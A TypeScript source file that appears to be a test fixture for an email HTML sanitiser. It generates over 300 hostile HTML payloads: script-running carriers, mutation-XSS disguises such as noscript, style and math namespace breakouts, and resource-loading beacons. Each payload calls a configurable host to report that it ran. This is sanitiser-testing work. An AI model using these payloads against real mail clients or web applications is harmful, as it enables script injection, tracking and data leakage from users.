// Mails whose HTML wants to run, to call home, to leave its frame or to look like something else: our own, one by one after the classes of
// attack that are known. `home` is where each would report that it got through.

type Make = (home: string) => string

const script = (home: string) =>
  `new Image().src='${home}';fetch('${home}');parent.postMessage('ran','*');top.postMessage('ran','*');top.location='${home}'`
const quoted = (home: string) => script(home).replaceAll("'", '&#39;')

/** What runs where it is let run at all. */
const carriers: Make[] = [
  (home) => `<script>${script(home)}</script>`,
  (home) => `<img src=x onerror="${script(home)}">`,
  (home) => `<svg onload="${script(home)}"></svg>`,
  (home) => `<svg><script>${script(home)}</script></svg>`,
  (home) => `<svg><animate onbegin="${script(home)}" attributeName=x dur=1s></svg>`,
  (home) => `<svg><set attributeName=onmouseover to="${script(home)}"/></svg>`,
  (home) => `<math><mtext><img src=x onerror="${script(home)}"></mtext></math>`,
  (home) => `<body onload="${script(home)}">`,
  (home) => `<details open ontoggle="${script(home)}">x</details>`,
  (home) => `<video><source onerror="${script(home)}"></video>`,
  (home) => `<audio src=x onerror="${script(home)}"></audio>`,
  (home) => `<input autofocus onfocus="${script(home)}">`,
  (home) => `<marquee onstart="${script(home)}">x</marquee>`,
  (home) => `<iframe srcdoc="<script>${quoted(home)}</script>"></iframe>`,
  (home) => `<iframe src="javascript:${script(home)}"></iframe>`,
  (home) => `<object data="data:text/html,<script>${quoted(home)}</script>"></object>`,
  (home) => `<embed src="data:text/html,<script>${quoted(home)}</script>">`,
  (home) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${script(home)}">x</p>`,
]

/** What hides a carrier from whoever looks for it. */
const disguises: ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<style><p title="</style>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<template>${inner}</template><table><td>${inner}`,
  (inner) => `<math><mi><mglyph><style><!--</style>${inner}--></mglyph></mi></math>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<svg><desc><p>${inner}</p></desc></svg>`,
  (inner) => `<!--><p>${inner}-->`,
]

/** Alone, each another way. */
const others: Make[] = [
  (home) => `<img src="${home}">`,
  (home) => `<img srcset="${home} 1x, ${home}/b 2x">`,
  (home) => `<picture><source srcset="${home}"><img></picture>`,
  (home) => `<table background="${home}"><td background="${home}">x</table>`,
  (home) => `<body background="${home}">x`,
  (home) => `<p style="background:url(${home})">x</p>`,
  (home) => `<p style="background:u\\72l(${home})">x</p>`,
  (home) => `<p style="list-style-image:url('${home}')">x</p>`,
  (home) => `<p style="content:url(${home})">x</p>`,
  (home) => `<p style="cursor:url(${home}),auto">x</p>`,
  (home) => `<p style="border-image:url(${home}) 1">x</p>`,
  (home) => `<p style="font-family:x;src:url(${home})">x</p>`,
  (home) => `<p style="color:red;background-image:image-set('${home}' 1x)">x</p>`,
  (home) => `<style>@import url(${home});body{background:url(${home})}</style>`,
  (home) => `<style>@font-face{font-family:a;src:url(${home})}p{font-family:a}</style><p>x</p>`,
  (home) => `<link rel=stylesheet href="${home}">`,
  (home) => `<link rel=prefetch href="${home}">`,
  (home) => `<link rel=preload as=image href="${home}">`,
  (home) => `<link rel=icon href="${home}">`,
  (home) => `<link rel=modulepreload href="${home}">`,
  (home) => `<link rel=manifest href="${home}">`,
  (home) => `<meta http-equiv=refresh content="0;url=${home}">`,
  (home) => `<meta http-equiv=refresh content="0;url=javascript:${script(home)}">`,
  (home) => `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${home}">`,
  (home) => `<meta name=referrer content=unsafe-url><img src="${home}">`,
  (home) => `<base href="${home}"><img src="a.png"><a href="b">x</a>`,
  (home) => `<iframe src="${home}"></iframe>`,
  (home) => `<frameset><frame src="${home}"></frameset>`,
  (home) => `<object data="${home}"></object>`,
  (home) => `<embed src="${home}">`,
  (home) => `<applet code="${home}"></applet>`,
  (home) => `<video src="${home}" poster="${home}" autoplay></video>`,
  (home) => `<audio src="${home}" autoplay></audio>`,
  (home) => `<video><track src="${home}" default></video>`,
  (home) => `<form action="${home}"><input type=submit autofocus></form>`,
  (home) => `<form id=f action="${home}"></form><button form=f formaction="${home}">x</button>`,
  (home) => `<input type=image src="${home}">`,
  (home) => `<isindex action="${home}" type=image src="${home}">`,
  (home) => `<svg><image href="${home}"/></svg>`,
  (home) => `<svg><use href="${home}#x"/></svg>`,
  (home) => `<svg><a xlink:href="javascript:${script(home)}"><text y=20>x</text></a></svg>`,
  (home) => `<svg><feImage href="${home}"/></svg>`,
  (home) => `<svg><style>@import '${home}';</style></svg>`,
  (home) => `<svg><foreignObject><iframe src="${home}"></iframe></foreignObject></svg>`,
  (home) => `<math href="javascript:${script(home)}">x</math>`,
  (home) => `<a href="javascript:${script(home)}">x</a>`,
  (home) => `<a href="java\tscript:${script(home)}">x</a>`,
  (home) => `<a href="&#106;avascript:${script(home)}">x</a>`,
  (home) => `<a href=" \u0001javascript:${script(home)}">x</a>`,
  (home) => `<a href="data:text/html,<script>${quoted(home)}</script>">x</a>`,
  (home) => `<a href="vbscript:msgbox('${home}')">x</a>`,
  (home) => `<a href="#" ping="${home}">x</a>`,
  (home) => `<a target=_top href="${home}">x</a>`,
  (home) =>
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script(home)}"/>`).toString('base64')}">`,
  (home) => `<img src="data:text/html,<script>${quoted(home)}</script>">`,
  (home) => `<img src="//${home.replace(/^https?:\/\//, '')}">`,
  (home) => `<img src="cid:none" onerror="${script(home)}">`,
  (home) => `<img """><script>${script(home)}</script>">`,
  (home) => `<img src=x:x onerror&#61;"${script(home)}">`,
  (home) => `<scr<script>ipt>${script(home)}</scr</script>ipt>`,
  (home) => `<<script>${script(home)}//<</script>`,
  (home) => `<script/x>${script(home)}</script\n>`,
  (home) => `<SCRIPT SRC="${home}"></SCRIPT>`,
  (home) => `<script type=module>import '${home}'</script>`,
  (home) => `<script type=importmap>{"imports":{"a":"${home}"}}</script>`,
  (home) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${home}"]}]}</script>`,
  (home) => `<img src=x\u0000 onerror="${script(home)}">`,
  (home) => `<img/src=x/onerror="${script(home)}">`,
  (home) => `<p onclick="${script(home)}" onmouseover="${script(home)}" style="position:fixed;inset:0">x</p>`,
  (home) => `<p id=x tabindex=1 onfocus="${script(home)}" autofocus>x</p>`,
  (home) => `<button popovertarget=p onclick="${script(home)}">x</button><div id=p popover onbeforetoggle="${script(home)}">x</div>`,
  (home) => `<dialog open onclose="${script(home)}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  (home) => `<form name=attributes><input name=nodeName><input name=parentNode><img src=x onerror="${script(home)}"></form>`,
  (home) => `<a id=location href="${home}"></a><a id=location name=assign>x</a>`,
  (home) => `<portal src="${home}"></portal><fencedframe src="${home}"></fencedframe>`,
  (home) => `<xml><i><b><img src=x onerror="${script(home)}"></b></i></xml>`,
  (home) => `<?xml-stylesheet href="${home}"?><p>x</p>`,
  (home) => `<![CDATA[><img src=x onerror="${script(home)}">]]>`,
  (home) => `<!DOCTYPE x [<!ENTITY a SYSTEM "${home}">]><p>&a;</p>`,
  (home) => `<select><option><style></option></select><img src=x onerror="${script(home)}"></style>`,
  (home) => `<table><tr><td><select><img src=x onerror="${script(home)}"></select></td></tr></table>`,
  (home) => `<plaintext><img src=x onerror="${script(home)}">`,
  (home) => `<p style="x:expression(${script(home)})">x</p>`,
  (home) => `<p style="-moz-binding:url(${home})">x</p>`,
  (home) => `<p style="behavior:url(${home})">x</p>`,
  (home) => `<div>${'<b>'.repeat(2_000)}<img src=x onerror="${script(home)}">`,
  (home) =>
    `<custom-tag is=x><slot name=a><template shadowrootmode=open><img src=x onerror="${script(home)}"></template></slot></custom-tag>`,
  (home) => `<noframes><iframe src="${home}"></iframe></noframes><noembed><img src="${home}"></noembed>`,
  (home) => `<bgsound src="${home}"><layer src="${home}"></layer><ilayer src="${home}"></ilayer>`,
  (home) => `<img src="${home}" loading=eager fetchpriority=high crossorigin=use-credentials referrerpolicy=unsafe-url>`,
]

/** 300 and more; each knows its own number, by which it would be found out. */
export function hostileHtml(home: string): string[] {
  const disguised = disguises.flatMap((disguise) =>
    carriers.map(
      (carry): Make =>
        (place) =>
          disguise(carry(place)),
    ),
  )
  return [...disguised, ...others].map((make, place) => make(`${home}/hit/${place}`))
}
